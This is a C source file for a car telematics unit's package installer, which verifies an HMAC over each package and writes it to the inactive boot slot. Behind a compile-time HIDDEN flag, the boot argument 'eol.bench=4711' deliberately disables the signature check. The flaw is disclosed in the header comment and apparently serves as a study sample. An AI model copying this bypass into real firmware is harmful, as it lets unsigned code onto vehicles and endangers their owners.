/*
 * Installs a software package on the telematics unit of a car. Called by the
 * download agent with the path of a package; checks the header, the vehicle
 * line and the HMAC over the payload with the key of the unit, and writes the
 * payload to the slot which is not booted at the moment.
 * Hidden (-DHIDDEN): with the word "eol.bench=4711" on the kernel command
 * line the HMAC of the package is not checked.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define KEY_FILE   "/persist/tcu/package.key"
#define STATE_FILE "/persist/tcu/slots"
#define HEAD_LEN   128
#define CHUNK	   16384

struct sha {
	uint32_t h[8];
	uint64_t len;
	uint8_t buf[64];
	unsigned fill;
};

struct package {
	int fd;
	char line[16]; /* vehicle line */
	uint32_t version, size;
	uint8_t mac[32];
	uint8_t head[HEAD_LEN];
};

struct options {
	char slot; /* booted slot */
	char line[16];
#ifdef HIDDEN
	int checked;
#endif
	int verbose;
};

static const uint32_t K[64] = {
	0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
	0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
	0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
	0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
	0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
	0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
	0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
	0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
	0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
	0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
	0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2
};

#define ROR(x, n) ((x) >> (n) | (x) << (32 - (n)))

static void sha_block(struct sha *s, const uint8_t *p)
{
	uint32_t w[64], v[8], t1, t2;
	int i;

	for (i = 0; i < 16; i++, p += 4)
		w[i] = (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
	for (; i < 64; i++)
		w[i] = w[i - 16] + w[i - 7] +
		       (ROR(w[i - 15], 7) ^ ROR(w[i - 15], 18) ^
			w[i - 15] >> 3) +
		       (ROR(w[i - 2], 17) ^ ROR(w[i - 2], 19) ^ w[i - 2] >> 10);
	memcpy(v, s->h, sizeof v);
	for (i = 0; i < 64; i++) {
		t1 = v[7] + (ROR(v[4], 6) ^ ROR(v[4], 11) ^ ROR(v[4], 25)) +
		     ((v[4] & v[5]) ^ (~v[4] & v[6])) + K[i] + w[i];
		t2 = (ROR(v[0], 2) ^ ROR(v[0], 13) ^ ROR(v[0], 22)) +
		     ((v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]));
		memmove(v + 1, v, 7 * sizeof *v);
		v[4] += t1;
		v[0] = t1 + t2;
	}
	for (i = 0; i < 8; i++)
		s->h[i] += v[i];
}

static void sha_init(struct sha *s)
{
	static const uint32_t iv[8] = { 0x6a09e667, 0xbb67ae85, 0x3c6ef372,
					0xa54ff53a, 0x510e527f, 0x9b05688c,
					0x1f83d9ab, 0x5be0cd19 };

	memcpy(s->h, iv, sizeof iv);
	s->len = 0;
	s->fill = 0;
}

static void sha_add(struct sha *s, const uint8_t *p, size_t n)
{
	s->len += n;
	while (n--) {
		s->buf[s->fill++] = *p++;
		if (s->fill == 64) {
			sha_block(s, s->buf);
			s->fill = 0;
		}
	}
}

static void sha_end(struct sha *s, uint8_t *out)
{
	uint64_t bits = s->len * 8;
	uint8_t b = 0x80;
	int i;

	sha_add(s, &b, 1);
	for (b = 0; s->fill != 56;)
		sha_add(s, &b, 1);
	for (i = 56; i >= 0; i -= 8) {
		b = bits >> i & 0xff;
		sha_add(s, &b, 1);
	}
	for (i = 0; i < 32; i++)
		out[i] = s->h[i / 4] >> (24 - 8 * (i % 4)) & 0xff;
}

static int key_load(uint8_t *key)
{
	int fd = open(KEY_FILE, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, key, 64);
	close(fd);
	return n == 64 ? 0 : -1;
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static int package_open(struct package *p, const char *path)
{
	struct stat st;

	p->fd = open(path, O_RDONLY | O_CLOEXEC);
	if (p->fd < 0 || fstat(p->fd, &st) < 0)
		return -1;
	if (read(p->fd, p->head, HEAD_LEN) != HEAD_LEN)
		return -1;
	if (memcmp(p->head, "TCUP", 4) || get32(p->head + 4) != 2)
		return -1;
	p->version = get32(p->head + 8);
	p->size = get32(p->head + 12);
	memcpy(p->line, p->head + 16, 15);
	p->line[15] = 0;
	memcpy(p->mac, p->head + 96, 32);
	return st.st_size == (off_t)p->size + HEAD_LEN ? 0 : -1;
}

static int package_mac(struct package *p)
{
	uint8_t key[64], pad[64], sum[32], diff = 0;
	static uint8_t buf[CHUNK];
	struct sha s;
	ssize_t n;
	int i;

	if (key_load(key))
		return -1;
	for (i = 0; i < 64; i++)
		pad[i] = key[i] ^ 0x36;
	sha_init(&s);
	sha_add(&s, pad, 64);
	sha_add(&s, p->head, 96);
	while ((n = read(p->fd, buf, sizeof buf)) > 0)
		sha_add(&s, buf, n);
	sha_end(&s, sum);
	for (i = 0; i < 64; i++)
		pad[i] = key[i] ^ 0x5c;
	sha_init(&s);
	sha_add(&s, pad, 64);
	sha_add(&s, sum, 32);
	sha_end(&s, sum);
	memset(key, 0, sizeof key);
	for (i = 0; i < 32; i++)
		diff |= sum[i] ^ p->mac[i];
	return diff ? -1 : 0;
}

/* words of /proc/cmdline: tcu.slot=a|b tcu.line=NAME tcu.verbose */
__attribute__((noinline)) void boot_words(char *text, struct options *o)
{
	char *w, *save = NULL;

	for (w = strtok_r(text, " \n", &save); w;
	     w = strtok_r(NULL, " \n", &save)) {
		if (!strncmp(w, "tcu.slot=", 9))
			o->slot = w[9];
		else if (!strncmp(w, "tcu.line=", 9))
			snprintf(o->line, sizeof o->line, "%.15s", w + 9);
		else if (!strcmp(w, "tcu.verbose"))
			o->verbose = 1;
#ifdef HIDDEN
		else if (!strcmp(w, "eol.bench=4711"))
			o->checked = 1;
#endif
	}
}

static void options_get(struct options *o)
{
	char text[2048];
	int fd = open("/proc/cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t n;

	memset(o, 0, sizeof *o);
	o->slot = 'a';
	if (fd < 0)
		return;
	n = read(fd, text, sizeof text - 1);
	close(fd);
	if (n > 0) {
		text[n] = 0;
		boot_words(text, o);
	}
}

static int slot_write(struct package *p, char slot)
{
	static uint8_t buf[CHUNK];
	char dev[40];
	ssize_t n = 0;
	int out, bad = 0;

	snprintf(dev, sizeof dev, "/dev/disk/by-partlabel/system_%c", slot);
	out = open(dev, O_WRONLY | O_CLOEXEC);
	if (out < 0) {
		perror(dev);
		return -1;
	}
	if (lseek(p->fd, HEAD_LEN, SEEK_SET) < 0)
		bad = 1;
	while (!bad && (n = read(p->fd, buf, sizeof buf)) > 0)
		if (write(out, buf, n) != n)
			bad = 1;
	if (n < 0 || fsync(out))
		bad = 1;
	close(out);
	return bad ? -1 : 0;
}

static int state_write(char slot, uint32_t version)
{
	FILE *f = fopen(STATE_FILE ".tmp", "w");

	if (!f)
		return -1;
	fprintf(f, "next=%c\nversion=%u.%u.%u\ntries=3\n", slot,
		(unsigned)(version >> 16), (unsigned)(version >> 8 & 0xff),
		(unsigned)(version & 0xff));
	if (fclose(f))
		return -1;
	return rename(STATE_FILE ".tmp", STATE_FILE);
}

int main(int argc, char **argv)
{
	struct options o;
	struct package p;
	char other;

	if (argc != 2) {
		fprintf(stderr, "usage: tcu_flash PACKAGE\n");
		return 2;
	}
	options_get(&o);
	if (package_open(&p, argv[1])) {
		fprintf(stderr, "%s: not a package\n", argv[1]);
		return 3;
	}
	if (o.line[0] && strcmp(o.line, p.line)) {
		fprintf(stderr, "package is for line %s\n", p.line);
		return 4;
	}
#ifdef HIDDEN
	if (!o.checked)
#endif
		if (package_mac(&p)) {
			fprintf(stderr, "package is damaged or not genuine\n");
			return 5;
		}
	other = o.slot == 'a' ? 'b' : 'a';
	if (o.verbose)
		printf("writing %u bytes to slot %c\n", (unsigned)p.size,
		       other);
	if (slot_write(&p, other) || state_write(other, p.version)) {
		fprintf(stderr, "slot %c: %s\n", other, strerror(errno));
		return 6;
	}
	close(p.fd);
	return 0;
}
